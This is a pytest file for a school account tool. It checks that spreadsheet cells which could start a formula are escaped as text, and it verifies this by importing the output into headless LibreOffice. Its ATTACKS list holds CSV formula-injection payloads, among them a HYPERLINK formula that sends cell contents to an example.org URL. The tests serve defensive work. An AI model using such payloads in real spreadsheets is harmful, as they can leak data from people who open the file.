"""Worksheets safe in Excel and LibreOffice (issue 22, 6): a cell whose first non-blank character could start a
formula is written as text. The written CSV is opened by LibreOffice itself (headless, with « Supprimer les
espaces » and formulas evaluated, the most trusting import) and no cell may come out a formula."""
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from wizard.core.matching.worksheet import _safe

ROOT = Path(__file__).resolve().parents[2]
PRONOTE = ROOT / "tests" / "matching" / "fixtures" / "pronote.xml"
ATTACKS = ["=1+1", " =HYPERLINK(\"https://example.org/?\"&A1;\"x\")", "\t=1+1", "\r=1+1", "  +1+1", "-1+1", "@SUM(1)",
           "\u3000=1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe621", "\u22121"]
# LibreOffice's CSV import: « ; », « " », UTF-8, from line 1, French, quoted fields not forced to text, special
# numbers detected, …, « Supprimer les espaces » (remove spaces), …, formulas evaluated.
IMPORT = "CSV:59,34,76,1,,1036,false,true,false,false,true,,true"


@pytest.mark.parametrize("cell", ATTACKS)
def test_every_cell_that_could_start_a_formula_is_made_text(cell):
    assert _safe(cell).startswith("'")


@pytest.mark.parametrize("cell", ["Dupont", "Jean-Marie", "", "  Martin", "O'Neil", "12/03/2012", "A-1"])
def test_ordinary_cells_are_left_alone(cell):
    assert _safe(cell) == cell


def _soffice() -> str | None:
    """LibreOffice's command: on the PATH, or where its Windows installer puts it (which is not on the PATH)."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None and sys.platform == "win32":
        for folder in filter(None, (os.environ.get("ProgramFiles"), os.environ.get("ProgramFiles(x86)"))):
            program = Path(folder) / "LibreOffice" / "program" / "soffice.exe"
            if program.is_file():
                return str(program)
    return found


# On Linux scripts/test.sh installs libreoffice-calc-nogui (Debian) before the tests; elsewhere (Windows under
# Wine or not, macOS) it is the machine's own, if any.
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed: no CSV import to try")
def test_libreoffice_opens_the_worksheet_with_no_formula(tmp_path):
    from wizard.commands.cli import run

    accounts = tmp_path / "comptes.csv"
    rows = ["Nom;Prénom;Identifiant;Date de naissance;Profil"]
    rows += [f'"{attack.replace(chr(34), chr(34) * 2)}";Prénom{n};id{n};01/01/2010;Élève'
             for n, attack in enumerate(ATTACKS)]
    rows += [f'Nom{n};"{attack.replace(chr(34), chr(34) * 2)}";{attack.strip() or "x"}{n};01/01/2010;Élève'
             for n, attack in enumerate(ATTACKS)]
    accounts.write_text("\n".join(rows), encoding="utf-8")
    sheet = tmp_path / "feuille.csv"
    assert run(["reconcile", str(PRONOTE), str(accounts), "--out", str(sheet), "--data-dir", str(tmp_path / "d")]) == 0
    # The control: the same attacks unguarded are formulas for this import (the check can fail).
    control = tmp_path / "temoin.csv"
    control.write_text("\ufeff=1+1;x\r\n  =2+2;x\r\n", encoding="utf-8")  # the second: only once trimmed
    out = tmp_path / "out"
    run_soffice = subprocess.run(
        [_soffice(), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}",
         f"--infilter={IMPORT}", "--convert-to", "fods", "--outdir", str(out), str(sheet), str(control)],
        capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)})
    assert (out / "temoin.fods").exists(), run_soffice.stdout + run_soffice.stderr
    assert len(re.findall(r'table:formula="', (out / "temoin.fods").read_text(encoding="utf-8"))) >= 2
    opened = (out / "feuille.fods").read_text(encoding="utf-8")
    assert "Prénom" in opened and "HYPERLINK" in opened  # the attacks are there, as text
    assert 'table:formula="' not in opened
